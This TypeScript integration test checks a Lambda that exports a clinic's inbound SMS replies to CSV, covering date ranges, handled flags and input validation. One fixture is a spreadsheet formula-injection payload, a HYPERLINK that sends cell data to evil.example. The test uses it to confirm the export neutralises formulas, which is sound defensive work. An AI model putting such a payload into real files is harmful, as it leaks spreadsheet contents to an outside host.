/**
 * The replies export (lambdas/handlers/export-replies.ts) against the local engines: replies
 * go in through the real receive-reply handler (End User Messaging's inbound payload, as the
 * SNS topic delivers it) at set instants around a range's ends, then the export's CSV is read
 * back from the reports bucket and compared with the replies sent in the range.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse';
import { LOCAL_NAMES, startLocalStack, type LocalStack } from '../../local/local-stack';
import { withClock } from '../../lambdas/adapters/clock';
import { StaffFlags } from '../../lambdas/adapters/staff-flags';
import { REPLY_EXPORT_HEADER } from '../../lambdas/domain/reply-export';
import { handler as exportReplies } from '../../lambdas/handlers/export-replies';
import { handler as receive } from '../../lambdas/handlers/receive-reply';
import { cadenceTestConfig, enrollPeople, LAKESIDE_SMS, phoneNumber, SUNRISE, SUNRISE_SMS, type Enrolled, type Person } from './cadence-fixtures';

const HOUSEHOLD = phoneNumber(95, 'MOBILE', 530);
const STRANGER = '+12065559980';
const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"open")';

/** Sunrise is in Los Angeles: 2027-03-02 and 2027-03-03 local (PST, UTC−8) are [03-02T08:00Z, 03-04T08:00Z). */
const FROM = '2027-03-02';
const TO = '2027-03-03';

interface Sent {
  readonly id: string;
  readonly from: string;
  readonly to?: string;
  readonly at: string;
  readonly text: string;
  /** Who it is in the thread of (external ids); none: matched to nobody. */
  readonly people: readonly string[];
  readonly inRange: boolean;
  /** Handled: read and acted on, and every flag it raised marked handled. */
  readonly handled: 'yes' | 'no';
}

describe('export-replies', () => {
  let stack: LocalStack;
  let enrolled: Enrolled;
  const people: Record<string, Person> = {
    asks: { id: 'exp-asks', mobile: phoneNumber(91, 'MOBILE', 530) },
    help: { id: 'exp-help', mobile: phoneNumber(92, 'MOBILE', 530) },
    stops: { id: 'exp-stops', mobile: phoneNumber(93, 'MOBILE', 530) },
    parent: { id: 'exp-parent', mobile: HOUSEHOLD },
    child: { id: 'exp-child', mobile: HOUSEHOLD },
    quiet: { id: 'exp-quiet', mobile: phoneNumber(96, 'MOBILE', 530) },
  };
  const mobile = (p: string) => people[p]!.mobile!;

  // In time order; the first and the last fall just outside the range.
  const sent: Sent[] = [
    { id: 'exp-before', from: mobile('asks'), at: '2027-03-02T07:59:59.999Z', text: 'Is this the clinic?', people: ['exp-asks'], inRange: false, handled: 'no' },
    { id: 'exp-first', from: mobile('asks'), at: '2027-03-02T08:00:00.000Z', text: 'What is this about?', people: ['exp-asks'], inRange: true, handled: 'yes' },
    { id: 'exp-help', from: mobile('help'), at: '2027-03-02T20:00:00.000Z', text: 'HELP', people: ['exp-help'], inRange: true, handled: 'yes' },
    { id: 'exp-stop', from: mobile('stops'), at: '2027-03-03T18:00:00.000Z', text: 'STOP', people: ['exp-stops'], inRange: true, handled: 'yes' },
    { id: 'exp-household', from: HOUSEHOLD, at: '2027-03-03T19:00:00.000Z', text: 'Who is this, please?', people: ['exp-parent', 'exp-child'], inRange: true, handled: 'no' },
    { id: 'exp-stranger', from: STRANGER, at: '2027-03-03T20:00:00.000Z', text: 'hello?', people: [], inRange: true, handled: 'no' },
    { id: 'exp-other-practice', from: STRANGER, to: LAKESIDE_SMS, at: '2027-03-03T20:30:00.000Z', text: 'for lakeside', people: [], inRange: false, handled: 'no' },
    { id: 'exp-no-practice', from: STRANGER, to: '+18005550000', at: '2027-03-03T21:00:00.000Z', text: 'for nobody', people: [], inRange: false, handled: 'no' },
    { id: 'exp-formula', from: mobile('help'), at: '2027-03-04T07:59:59.999Z', text: FORMULA, people: ['exp-help'], inRange: true, handled: 'no' },
    { id: 'exp-after', from: mobile('stops'), at: '2027-03-04T08:00:00.000Z', text: 'START', people: ['exp-stops'], inRange: false, handled: 'yes' },
  ];
  const kinds = new Map<string, string>();

  /** The instant, fixed: a reply's received time is exactly `at`. */
  const at = <T>(iso: string, fn: () => Promise<T>) => withClock({ now: () => new Date(iso) }, fn);
  const sms = (s: Sent) => ({
    Records: [{ Sns: { Message: JSON.stringify({ originationNumber: s.from, destinationNumber: s.to ?? SUNRISE_SMS, messageBody: s.text, inboundMessageId: s.id }) } }],
  });

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'export-replies-'));
    stack = await startLocalStack({ inMemory: true, configPath: cadenceTestConfig(dir) });
    enrolled = await enrollPeople(stack, dir, SUNRISE, 'export-replies.csv', Object.values(people));
    for (const s of sent) {
      const { outcomes } = await at(s.at, () => receive(sms(s)));
      kinds.set(s.id, outcomes[0]!);
    }
    // Staff dealt with the first question: its one flag is handled.
    const flags = new StaffFlags(process.env.TRACKER_TABLE_NAME!);
    const [first] = (await flags.list(SUNRISE)).filter((f) => f.inboundMessageId === 'exp-first');
    expect(await flags.markHandled(SUNRISE, first!.flagId, 'staff:test', '2027-03-02T09:00:00.000Z')).toBe(true);
  });
  afterAll(() => stack?.stop());

  async function exported(file: string): Promise<string[][]> {
    const [, bucket, key] = /^s3:\/\/([^/]+)\/(.+)$/.exec(file)!;
    const text = await (await stack.s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }))).Body!.transformToString();
    expect(text.startsWith('\uFEFF')).toBe(true);
    return new Promise((resolve, reject) => parse(text, { bom: true }, (e, rows: string[][]) => (e ? reject(e) : resolve(rows))));
  }

  it('writes every reply received in the practice\'s days from–to (both included) and none outside them, one row per person it is in the thread of', async () => {
    const out = await exportReplies({ practiceId: SUNRISE, from: FROM, to: TO });

    expect(out).toEqual({ practiceId: SUNRISE, file: `s3://${LOCAL_NAMES.reportsBucket}/exports/${SUNRISE}/replies-${FROM}-${TO}.csv`, rows: 7, range: { from: '2027-03-02T08:00:00.000Z', to: '2027-03-04T08:00:00.000Z' } });
    const [header, ...rows] = await exported(out.file);
    expect(header).toEqual([...REPLY_EXPORT_HEADER]);
    // What was sent in the range, as the export must show it: a text starting with "=" as text ("'=…").
    const expected = sent
      .filter((s) => s.inRange)
      .flatMap((s) => (s.people.length ? s.people : ['']).map((p) => [s.at, p ? enrolled.contactId(p) : '', p, kinds.get(s.id)!, s.handled, s.text === FORMULA ? `'${FORMULA}` : s.text]));
    const asSet = (table: string[][]) => table.map((r) => JSON.stringify(r)).sort();
    expect(asSet(rows)).toEqual(asSet(expected));
    // Oldest first.
    expect(rows.map((r) => r[0])).toEqual(expected.map((r) => r[0]));
    // Nothing from outside the range, another practice or no practice.
    for (const s of sent.filter((x) => !x.inRange)) expect(rows.flat()).not.toContain(s.text);
    expect(rows.every((r) => r[0]! >= '2027-03-02T08:00:00.000Z' && r[0]! < '2027-03-04T08:00:00.000Z')).toBe(true);
  });

  it('says how each was read and whether it is handled, and keeps a formula in a text from running in a spreadsheet', async () => {
    const { file } = await exportReplies({ practiceId: SUNRISE, from: FROM, to: TO });
    const rows = (await exported(file)).slice(1);
    const byText = (text: string) => rows.filter((r) => r[5] === text).map((r) => [r[2], r[3], r[4]]);
    expect(byText('What is this about?')).toEqual([['exp-asks', 'other', 'yes']]);
    expect(byText('HELP')).toEqual([['exp-help', 'help', 'yes']]);
    expect(byText('STOP')).toEqual([['exp-stops', 'opt-out', 'yes']]);
    expect(byText('Who is this, please?').sort()).toEqual([
      ['exp-child', 'other', 'no'],
      ['exp-parent', 'other', 'no'],
    ]);
    // From a number no one has: kept with no contact, still waiting for staff.
    expect(byText('hello?')).toEqual([['', 'other', 'no']]);
    expect(byText(`'${FORMULA}`)).toEqual([['exp-help', 'other', 'no']]);
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('exports one day, and nothing for days without replies (the header only)', async () => {
    const one = await exportReplies({ practiceId: SUNRISE, from: '2027-03-02', to: '2027-03-02' });
    expect((await exported(one.file)).slice(1).map((r) => r[5])).toEqual(['What is this about?', 'HELP']);
    const none = await exportReplies({ practiceId: SUNRISE, from: '2027-01-01', to: '2027-01-31' });
    expect(none.rows).toBe(0);
    expect(await exported(none.file)).toEqual([[...REPLY_EXPORT_HEADER]]);
  });

  it('refuses a range that ends before it starts, a date it cannot read and a practice not in the config, saying what is wrong', async () => {
    await expect(exportReplies({ practiceId: SUNRISE, from: '2027-03-03', to: '2027-03-02' })).rejects.toThrow(/not a replies export request .*from must not be after to/);
    await expect(exportReplies({ practiceId: SUNRISE, from: '3/2/2027', to: '2027-03-03' })).rejects.toThrow(/from: a date as YYYY-MM-DD/);
    await expect(exportReplies({ practiceId: 'nowhere', from: FROM, to: TO })).rejects.toThrow('no practice "nowhere" in the stage config');
  });
});
